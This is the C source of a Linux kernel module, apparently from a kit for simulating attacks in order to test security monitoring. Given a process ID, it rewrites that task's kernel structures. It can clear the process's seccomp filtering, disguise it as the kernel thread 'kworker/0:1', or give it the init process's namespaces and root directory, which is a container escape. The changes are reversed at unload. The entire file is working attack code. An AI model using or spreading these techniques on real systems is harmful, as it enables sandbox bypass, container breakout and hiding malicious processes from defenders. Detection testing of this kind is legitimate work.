// SPDX-License-Identifier: GPL-2.0-only
/* Takes away what holds a process in its place, or has it look like something else (T1036, T1611); undone at unload. */
#include "attack.h"

#include <linux/fs_struct.h>
#include <linux/nsproxy.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "the process");
static char *how = "seccomp";
module_param(how, charp, 0444);
MODULE_PARM_DESC(
	how,
	"seccomp: the mode of its filter is cleared; work: the filter is not asked; kthread: says it "
	"is one; name: is called like one; proxy: the first task's namespaces; root: its root "
	"directory");

static struct task_struct *task;
static struct nsproxy *proxy;
static struct path root;
static char comm[TASK_COMM_LEN];
static int mode;

static void swap_work(bool on)
{
#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 11, 0)
	if (on)
		set_task_syscall_work(task, SECCOMP);
	else
		clear_task_syscall_work(task, SECCOMP);
#else
	if (on)
		set_tsk_thread_flag(task, TIF_SECCOMP);
	else
		clear_tsk_thread_flag(task, TIF_SECCOMP);
#endif
}

static int change(void)
{
	struct task_struct *init = (struct task_struct *)attack_symbol("init_task");

	if (!init)
		return -ENOENT;
	mode = task->seccomp.mode;
	proxy = task->nsproxy;
	root = task->fs->root;
	memcpy(comm, task->comm, sizeof(comm));
	if (!strcmp(how, "seccomp"))
		task->seccomp.mode = 0;
	else if (!strcmp(how, "work"))
		swap_work(false);
	else if (!strcmp(how, "kthread"))
		task->flags |= PF_KTHREAD;
	else if (!strcmp(how, "name"))
		strscpy(task->comm, "kworker/0:1", sizeof(task->comm));
	else if (!strcmp(how, "proxy"))
		task->nsproxy = init->nsproxy;
	else if (!strcmp(how, "root"))
		task->fs->root = init->fs->root;
	else
		return -EINVAL;
	return 0;
}

static int __init attack_init(void)
{
	int error;

	task = get_pid_task(find_vpid(pid), PIDTYPE_PID);
	if (!task)
		return -ESRCH;
	error = change();
	if (error)
		put_task_struct(task);
	else
		attack_log("pid=%d how=%s task=0x%lx", pid, how, (unsigned long)task);
	return error;
}

static void __exit attack_exit(void)
{
	task->seccomp.mode = mode;
	if (!strcmp(how, "work"))
		swap_work(true);
	if (!strcmp(how, "kthread"))
		task->flags &= ~PF_KTHREAD;
	memcpy(task->comm, comm, sizeof(comm));
	task->nsproxy = proxy;
	task->fs->root = root;
	put_task_struct(task);
	attack_log("restored pid=%d", pid);
}

module_init(attack_init);
module_exit(attack_exit);
